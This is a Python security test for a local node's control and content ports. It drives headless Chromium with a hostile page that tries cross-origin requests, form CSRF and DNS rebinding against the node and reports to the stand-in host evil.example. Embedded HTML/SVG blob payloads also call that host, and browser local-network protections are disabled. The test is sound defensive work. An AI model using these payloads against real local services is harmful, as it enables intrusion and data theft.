"""Hostile pages in a real browser against the control port, and hostile blobs on the content port.

    hostile_pages_test.py --bin ARCHIPELAGO [name...]

A page on another origin tries everything a page can do to the control port of a node on the same machine: fetch in every mode,
XMLHttpRequest, forms, images, scripts, style sheets, frames, WebSocket, EventSource, beacons; by its address, by other spellings of
it, by a name that leads to it, and by a name that led to the page first and is then bound to it (DNS rebinding). None may have an
effect, and none may read a byte but the refusal. The same page is first let loose on a server that permits everything: whatever
does not get through there would prove nothing here.

Every connection of the browser goes through a proxy of this test, which decides where a name leads; nothing leaves the machine.
"""

import contextlib
import http.server
import json
import os
import pathlib
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from cli_test import Skip, run_cases  # noqa: E402
from local_node import Daemon  # noqa: E402

CASES = {}
BROWSERS = ("chromium-headless-shell", "chromium")
DEADLINE_SECONDS = 100

# What a page tries on one base URL. Each reports {attack, base, read}: the text it could read, or null.
PAGE = """<!doctype html><meta charset="utf-8"><title>hostile</title><body><script>
const call = JSON.stringify({jsonrpc: "2.0", id: 1, method: "blob.add", params: {path: "/etc/hostname"}});
const sleep = ms => new Promise(done => setTimeout(done, ms));
const cap = (promise, ms) => Promise.race([promise, sleep(ms).then(() => null)]);
const element = (name, attributes) => new Promise(done => {
  const e = Object.assign(document.createElement(name), attributes);
  e.onload = e.onerror = e.onloadedmetadata = () => {
    let read = null;
    try { read = (e.contentDocument && e.contentDocument.body.innerText) || null; } catch (_) {}
    done(read);
  };
  document.body.append(e);
});
const form = (base, enctype, fields) => {
  const frame = document.createElement("iframe"), f = document.createElement("form");
  frame.name = "f" + Math.random();
  Object.assign(f, {method: "POST", action: base + "/rpc/v1?a=form-" + encodeURIComponent(enctype), enctype, target: frame.name});
  for (const [name, value] of fields) {
    const i = document.createElement("input");
    Object.assign(i, {name, value, type: "hidden"});
    f.append(i);
  }
  document.body.append(frame, f);
  return new Promise(done => {
    frame.onload = () => { let read = null; try { read = frame.contentDocument.body.innerText || null; } catch (_) {} done(read); };
    f.submit();
  });
};
const text = promise => promise.then(r => r.text()).then(t => t || null, () => null);
const attacks = {
  "fetch-json": b => text(fetch(b + "/rpc/v1?a=fetch-json", {method: "POST", body: call, headers: {"Content-Type": "application/json"}})),
  "fetch-json-token": b => text(fetch(b + "/rpc/v1?a=fetch-json-token", {method: "POST", body: call, headers: {"Content-Type": "application/json", "Authorization": "Bearer " + "0".repeat(64)}})),
  "fetch-text": b => text(fetch(b + "/rpc/v1?a=fetch-text", {method: "POST", body: call, headers: {"Content-Type": "text/plain"}})),
  "fetch-blob": b => text(fetch(b + "/rpc/v1?a=fetch-blob", {method: "POST", body: new Blob([call])})),
  "fetch-no-cors": b => text(fetch(b + "/rpc/v1?a=fetch-no-cors", {method: "POST", mode: "no-cors", body: call})),
  "fetch-credentials": b => text(fetch(b + "/rpc/v1?a=fetch-credentials", {method: "POST", credentials: "include", body: call, headers: {"Content-Type": "text/plain"}})),
  "fetch-get-metrics": b => text(fetch(b + "/metrics?a=fetch-get-metrics")),
  "fetch-no-cors-metrics": b => text(fetch(b + "/metrics?a=fetch-no-cors-metrics", {mode: "no-cors"})),
  "fetch-delete": b => text(fetch(b + "/rpc/v1?a=fetch-delete", {method: "DELETE"})),
  "xhr": b => new Promise(done => {
    const x = new XMLHttpRequest();
    x.open("POST", b + "/rpc/v1?a=xhr");
    x.onload = () => done(x.responseText || null);
    x.onerror = () => done(null);
    x.send(call);
  }),
  "beacon": b => { navigator.sendBeacon(b + "/rpc/v1?a=beacon", new Blob([call], {type: "text/plain"})); return sleep(100).then(() => null); },
  "image": b => element("img", {src: b + "/metrics?a=image"}),
  "script": b => element("script", {src: b + "/metrics?a=script"}),
  "style": b => element("link", {rel: "stylesheet", href: b + "/metrics?a=style"}),
  "frame": b => element("iframe", {src: b + "/metrics?a=frame"}),
  "object": b => element("object", {data: b + "/metrics?a=object", type: "text/html"}),
  "video": b => element("video", {src: b + "/metrics?a=video"}),
  "form-urlencoded": b => form(b, "application/x-www-form-urlencoded", [["jsonrpc", "2.0"], ["method", "blob.add"]]),
  "form-text": b => form(b, "text/plain", [[call.slice(0, -1) + ',"x":"', '"}']]),
  "form-multipart": b => form(b, "multipart/form-data", [["call", call]]),
  "websocket": b => new Promise(done => {
    const w = new WebSocket(b.replace("http", "ws") + "/rpc/v1?a=websocket");
    w.onopen = () => done("open");
    w.onerror = () => done(null);
  }),
  "eventsource": b => new Promise(done => {
    const e = new EventSource(b + "/events?a=eventsource");
    e.onopen = e.onmessage = () => { e.close(); done("open"); };
    e.onerror = () => { e.close(); done(null); };
  }),
};
const report = said => fetch("http://evil.example/report", {method: "POST", mode: "no-cors", body: JSON.stringify(said)});
const on = base => Promise.all(Object.entries(attacks).map(async ([attack, run]) => {
  let read = null;
  try { read = await cap(run(base), 10000); } catch (_) {}
  await report({attack, base, read});
}));
(async () => {
  const asked = new URLSearchParams(location.search);
  if (asked.get("rebind")) await fetch("http://evil.example/rebind", {mode: "no-cors"});
  for (const base of asked.getAll("base")) await on(base);
  await report({done: true});
})();
</script>"""

# A blob that would run if a browser let it.
SCRIPT = b'<!doctype html><html xmlns="http://www.w3.org/1999/xhtml"><script>fetch("http://evil.example/report", {method: "POST", mode: "no-cors", body: JSON.stringify({attack: "blob ran", base: "", read: null})})</script>ran</html>'
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'http://evil.example/report\', {method: \'POST\', mode: \'no-cors\', body: \'{}\'})"/>'


def case(function):
    CASES[function.__name__] = function
    return function


class QuietHandler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def say(self, status, body=b"", content_type="text/plain", **headers):
        self.send_response(status)
        for name, value in {"Content-Type": content_type, "Content-Length": str(len(body)), **headers}.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        with contextlib.suppress(OSError):
            self.wfile.write(body)

    def body(self):
        return self.rfile.read(int(self.headers.get("Content-Length") or 0))


def serve(handler) -> http.server.ThreadingHTTPServer:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


class Permissive:
    """What the control port must not be: answers everybody, everything."""

    def __init__(self):
        outer = self
        self.got: set[str] = set()

        class Handler(QuietHandler):
            def handle_all(self):
                self.body()
                if self.command != "OPTIONS":
                    outer.got.add(dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(self.path).query)).get("a", ""))
                kind = "text/event-stream" if "events" in self.path else "text/html"
                self.say(200, b"data: secret\n\n", kind, Access_Control_Allow_Origin=self.headers.get("Origin", "*"), Access_Control_Allow_Credentials="true",
                         Access_Control_Allow_Headers="*, Authorization, Content-Type", Access_Control_Allow_Methods="*, DELETE")
            do_GET = do_POST = do_OPTIONS = do_DELETE = handle_all

        self.server = serve(Handler)
        self.port = self.server.server_address[1]


class Evil:
    """The hostile site: serves the page, hears its reports."""

    def __init__(self):
        outer = self
        self.reports: list[dict] = []
        self.done = threading.Event()
        self.rebound = threading.Event()

        class Handler(QuietHandler):
            def do_GET(self):
                if self.path == "/rebind":
                    outer.rebound.set()
                self.say(200, PAGE.encode(), "text/html", Connection="close")

            def do_POST(self):
                said = json.loads(self.body() or b"{}")
                if said.get("done"):
                    outer.done.set()
                else:
                    outer.reports.append(said)
                self.say(204)

        self.port = serve(Handler).server_address[1]


class Names(threading.Thread):
    """A SOCKS5 proxy as the browser's only way out: `leads` says where a name and port lead, None refuses."""

    def __init__(self, leads):
        super().__init__(daemon=True)
        self.leads, self.asked = leads, set()
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.start()

    def run(self):
        while True:
            client, _ = self.listener.accept()
            threading.Thread(target=self.serve, args=(client,), daemon=True).start()

    def serve(self, client):
        with client, contextlib.suppress(OSError, IndexError):
            client.recv(257)
            client.sendall(b"\x05\x00")
            request = client.recv(512)
            if request[3] == 3:
                name, rest = request[5:5 + request[4]].decode(), request[5 + request[4]:]
            elif request[3] == 1:
                name, rest = socket.inet_ntop(socket.AF_INET, request[4:8]), request[8:]
            else:
                name, rest = socket.inet_ntop(socket.AF_INET6, request[4:20]), request[20:]
            port = int.from_bytes(rest[:2], "big")
            self.asked.add((name, port))
            target = self.leads(name, port)
            if not target:
                client.sendall(b"\x05\x05\x00\x01\x00\x00\x00\x00\x00\x00")
                return
            with socket.create_connection(("127.0.0.1", target)) as server:
                client.sendall(b"\x05\x00\x00\x01\x00\x00\x00\x00\x00\x00")
                threading.Thread(target=self.copy, args=(server, client), daemon=True).start()
                self.copy(client, server)

    @staticmethod
    def copy(source, to):
        with contextlib.suppress(OSError):
            while piece := source.recv(65536):
                to.sendall(piece)
        with contextlib.suppress(OSError):
            to.shutdown(socket.SHUT_WR)


class Visit:
    """A browser that opens one page and stays until the page says it is done."""

    def __init__(self, url, evil, target_port, further=None):
        browser = next((found for name in BROWSERS if (found := shutil.which(name))), None)
        if not browser:
            raise Skip("no Chromium is there")
        self.evil = evil

        def leads(name, port):
            if name == "evil.example":
                return evil.port
            if name == "rebound.example":
                return target_port if evil.rebound.is_set() else evil.port
            return (further or {}).get(port) or (target_port if port == target_port else None)

        self.names = Names(leads)
        self.folder = tempfile.TemporaryDirectory(prefix="archipelago-browser-")
        self.process = subprocess.Popen(
            [browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--disable-background-networking", "--disable-component-update",
             f"--user-data-dir={self.folder.name}", f"--proxy-server=socks5://127.0.0.1:{self.names.port}", "--proxy-bypass-list=<-loopback>",
             # What newer browsers forbid by themselves would hide what the node does.
             "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights,PrivateNetworkAccessRespectPreflightResults",
             "--remote-debugging-port=0", url], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)

    def __enter__(self):
        return self

    def wait(self):
        assert self.evil.done.wait(DEADLINE_SECONDS), f"the page was not done in time; it said {self.evil.reports[-3:]}"

    def __exit__(self, *_):
        os.killpg(self.process.pid, signal.SIGKILL)  # a browser is many processes, behind a script
        self.process.wait()
        with contextlib.suppress(OSError):
            self.folder.cleanup()


def page_url(bases, rebind=False, port=80, host="evil.example"):
    query = [("base", base) for base in bases] + ([("rebind", "1")] if rebind else [])
    return f"http://{host}:{port}/?{urllib.parse.urlencode(query)}"


def bases_of(port):
    return [f"http://127.0.0.1:{port}", f"http://localhost:{port}", f"http://0.0.0.0:{port}", f"http://2130706433:{port}", f"http://rebound.example:{port}"]


def counters(daemon) -> dict[str, int]:
    text = daemon.http("GET", "/metrics", Authorization=f"Bearer {daemon.token}")[2]
    return {name: int(value) for name, value in re.findall(r"^archipelago_(control_\S+|rpc_calls_total\S+) (\d+)$", text, re.M)}


def check_refused(daemon, before, evil, attacks_made):
    """No call ran, nothing but our own look at the counters was served, and every text that could be read is a refusal."""
    after = counters(daemon)
    assert {k: v for k, v in after.items() if k.startswith("rpc_calls")} == {k: v for k, v in before.items() if k.startswith("rpc_calls")}, after
    assert after["control_served_total"] == before["control_served_total"] + 1, (before, after)
    refused = sum(v - before.get(k, 0) for k, v in after.items() if k.startswith("control_refused"))
    assert refused >= attacks_made, (refused, attacks_made, after)
    # A page does not even get so far as to guess a token.
    for check in ("token", "scope", "size", "content_type"):
        name = f'control_refused_total{{check="{check}"}}'
        assert after.get(name, 0) == before.get(name, 0), (check, before, after)
    for said in evil.reports:
        if said["read"] is not None:
            assert re.fullmatch(r'\{"error":"\w+"[^{}]*\}', said["read"].strip()), said
    return after


@case
def the_page_gets_through_where_everything_is_permitted(world):
    """The positive control: what this page tries does reach a server that does not defend itself."""
    victim, evil = Permissive(), Evil()
    with Visit(page_url([f"http://127.0.0.1:{victim.port}"]), evil, victim.port) as visit:
        visit.wait()
    tried = {said["attack"] for said in evil.reports}
    assert len(tried) >= 20, tried
    missing = {name for name in tried if not any(got.split("-")[0] == name.split("-")[0] for got in victim.got)}
    assert not missing, (missing, victim.got)
    read = {said["attack"] for said in evil.reports if said["read"]}
    assert {"fetch-json", "fetch-text", "fetch-get-metrics", "xhr", "eventsource"} <= read, read


@case
def no_page_has_an_effect_on_the_control_port_or_reads_from_it(world):
    with Daemon(world.node()) as daemon:
        port, evil = int(daemon.ports["control"].rsplit(":")[-1]), Evil()
        evil.rebound.set()  # the name leads to the node from the start: to the browser it is another site
        before = counters(daemon)
        with Visit(page_url(bases_of(port)), evil, port) as visit:
            visit.wait()
        assert len(evil.reports) == 5 * 22, len(evil.reports)
        check_refused(daemon, before, evil, attacks_made=3 * 20)
        assert not [said for said in evil.reports if said["read"]], evil.reports  # no CORS: not even the refusal


@case
def a_rebound_name_is_refused_although_the_page_is_of_the_same_origin(world):
    """The page comes from the name and port that lead to the control port a moment later: only the Host check is in its way."""
    with Daemon(world.node()) as daemon:
        port, evil = int(daemon.ports["control"].rsplit(":")[-1]), Evil()
        before = counters(daemon)
        with Visit(page_url([f"http://rebound.example:{port}"], rebind=True, port=port, host="rebound.example"), evil, port) as visit:
            visit.wait()
        after = check_refused(daemon, before, evil, attacks_made=20)
        by_host = 'control_refused_total{check="host"}'
        assert after[by_host] - before.get(by_host, 0) >= 15, after
        assert any(said["read"] and '"host"' in said["read"] for said in evil.reports), evil.reports  # so it was of the same origin


@case
def a_blob_that_is_a_page_does_not_run(world):
    node = world.node()
    with Daemon(node) as daemon:
        port, evil = int(daemon.ports["content"].rsplit(":")[-1]), Evil()
        root = f"http://127.0.0.1:{port}/blobs/"
        urls = []
        for name, content in (("page", SCRIPT), ("picture", SVG)):
            blake3 = node.must("add", world.file(name, content))[0]["blake3"]
            urls += [f"{root}{blake3}{extension}" for extension in ("", ".html", ".xhtml", ".svg", ".xml", ".js", ".txt", ".pdf", ".png")]
        frames = "".join(f'<iframe src="{url}"></iframe><object data="{url}"></object><script src="{url}"></script>' for url in urls)
        world.file("frames.html", frames.encode())

        class Handler(QuietHandler):
            def do_GET(self):
                self.say(200, ("<!doctype html>" + frames + "<script>onload = () => setTimeout(() => fetch('http://evil.example/report', {method: 'POST', mode: 'no-cors', body: '{\"done\": true}'}), 500)</script>").encode(), "text/html")

        site = serve(Handler).server_address[1]
        with Visit("http://frames.example:8081/", evil, port, further={8081: site}) as visit:
            visit.wait()
        assert evil.reports == [], evil.reports
        metrics = daemon.http("GET", "/metrics", Authorization=f"Bearer {daemon.token}")[2]
        assert int(metrics.split("\narchipelago_content_requests_total ")[1].split()[0]) >= len(urls), metrics


if __name__ == "__main__":
    run_cases(CASES, set())
